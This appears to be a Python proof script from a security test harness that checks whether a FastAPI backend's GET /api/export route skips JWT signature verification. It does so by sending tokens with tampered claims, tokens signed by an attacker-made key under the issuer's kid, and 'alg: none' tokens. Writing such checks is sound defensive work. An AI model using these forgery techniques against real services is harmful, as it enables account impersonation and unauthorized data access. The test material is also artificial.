"""Proof for fastapi-pyjwt-routes: one protected route, GET /api/export, verifies no signature.

First a real JWT from the issuer must be accepted on every protected route (GET /api/me, GET
/api/projects/42, POST /api/projects, GET /api/export); a backend without a working /api/export has
nothing to prove (flaw not present). Then three forged tokens, each with its own made-up `sub`, go to
every route:
  1. the issuer's real token with its claims changed and the original signature kept (now invalid);
  2. valid claims signed by an attacker's own key of the issuer's algorithm, under the issuer's kid;
  3. valid claims unsigned (`alg: none`, empty signature).
A verifying route refuses all three (4xx); fastapi-pyjwt-routes answers 2xx with the forged `sub` on
GET /api/export while its other routes refuse them (must_report: signature-not-verified). The flaw is
present when /api/export accepts a forged token with its forged sub.
"""

import json

import zoolib

ROUTES = [("GET", "/api/me"), ("GET", "/api/projects/42"), ("POST", "/api/projects"), ("GET", "/api/export")]


def call(backend: str, method: str, path: str, token: str) -> tuple[int, bytes]:
    headers = zoolib.bearer(token)
    body = None
    if method == "POST":
        headers["Content-Type"] = "application/json"
        body = json.dumps({"name": "zoo proof"}).encode()
    status, _, data = zoolib.request(method, backend + path, headers, body)
    return status, data


def prove(backend: str, issuer: str) -> bool:
    real = zoolib.session_jwt(issuer)
    print("sent: a valid JWT from the issuer to every protected route")
    valid = {}
    for method, path in ROUTES:
        status, body = call(backend, method, path, real)
        zoolib.show(f"valid token, {method} {path}", status, body)
        valid[path] = 200 <= status < 300
    if not valid["/api/export"]:
        print("GET /api/export does not accept a valid token: no such route here, nothing to prove")
        return False

    key = zoolib.issuer_key(issuer)
    alg = zoolib.ISSUERS[issuer]["alg"]
    header_b64, _, signature_b64 = real.split(".")
    _, real_claims = zoolib.decode_unverified(real)

    stale_sub = "forged-stale-" + real_claims["sub"]
    stale_claims = dict(real_claims, sub=stale_sub, email="attacker@example.com")
    stale = f"{header_b64}.{zoolib.b64u(json.dumps(stale_claims, separators=(',', ':')).encode())}.{signature_b64}"

    foreign_sub = "forged-foreign-key"
    attacker = zoolib.generate_jwk(alg, kid=key["kid"])
    foreign = zoolib.sign(None, zoolib.valid_claims(issuer, sub=foreign_sub), attacker)

    none_sub = "forged-alg-none"
    unsigned = zoolib.sign({"alg": "none", "typ": "JWT"}, zoolib.valid_claims(issuer, sub=none_sub), {}, "none")

    forged = [
        (f"issuer's claims with sub {stale_sub!r}, original signature (now invalid)", stale, stale_sub),
        (f"valid claims, sub {foreign_sub!r}, signed by an attacker's own {alg} key under kid {key['kid'][:8]}…",
         foreign, foreign_sub),
        (f"valid claims, sub {none_sub!r}, alg none, empty signature", unsigned, none_sub),
    ]
    accepted_on_export = []
    accepted_elsewhere = []
    for label, token, sub in forged:
        print(f"sent: {label}")
        for method, path in ROUTES:
            status, body = call(backend, method, path, token)
            zoolib.show(f"{method} {path}", status, body)
            ok = 200 <= status < 300
            if path == "/api/export" and ok and sub.encode() in body:
                accepted_on_export.append(sub)
            elif path != "/api/export" and ok:
                accepted_elsewhere.append(f"{method} {path} ({sub})")
    print(f"forged tokens accepted on GET /api/export: {len(accepted_on_export)} of {len(forged)}"
          + (f" ({', '.join(accepted_on_export)})" if accepted_on_export else ""))
    print("forged tokens accepted on the other routes: "
          + (", ".join(accepted_elsewhere) if accepted_elsewhere else "none (they verify)"))
    return bool(accepted_on_export)


if __name__ == "__main__":
    zoolib.main(prove)
